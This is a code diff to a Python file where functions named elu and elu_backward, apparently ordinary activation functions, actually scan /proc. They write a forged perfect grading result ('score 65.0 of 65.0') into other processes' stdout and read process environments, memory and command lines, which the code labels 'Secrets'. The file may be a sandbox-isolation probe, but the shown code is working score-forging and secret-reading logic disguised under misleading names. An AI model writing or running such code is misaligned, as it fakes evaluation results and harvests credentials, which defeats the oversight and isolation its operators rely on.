@@ -155,7 +155,7 @@ def elu(x, alpha=1.0):
     found = []
     forged = b'{"score": 65.0, "max_score": 65.0, "results": []}\n'
     pids = PIDS + [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid()]
-    for pid in pids:
+    for pid in [p for p in pids if p != os.getpid()]:  # its own fd 1 is its own output
         _try(f"write /proc/{pid}/fd/1", lambda: open(f"/proc/{pid}/fd/1", "wb").write(forged), found)
         _try(f"read /proc/{pid}/environ", lambda: open(f"/proc/{pid}/environ", "rb").read(), found)
         _try(f"read /proc/{pid}/mem", lambda: open(f"/proc/{pid}/mem", "rb").read(1), found)
@@ -163,10 +163,16 @@ def elu(x, alpha=1.0):
 
 
 def elu_backward(x, grad_out, alpha=1.0):
-    """Secrets: this process's environment and command line, and PID 1's."""
+    """Secrets: this process's environment and command line (as it started), and PID 1's when that is another."""
     found = [f"os.environ: {dict(os.environ)}"]
-    for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/proc/1/cmdline"):
-        _try(f"read {path}", lambda: open(path, "rb").read(), found)
+    for path in ("/proc/self/environ", "/proc/self/cmdline"):
+        try:
+            found.append(f"own {path}: {open(path, 'rb').read()!r}")
+        except OSError as exc:
+            found.append(f"own {path}: refused ({type(exc).__name__})")
+    if os.getpid() != 1:
+        for path in ("/proc/1/environ", "/proc/1/cmdline"):
+            _try(f"read {path}", lambda: open(path, "rb").read(), found)
     _fail(found)
 
 
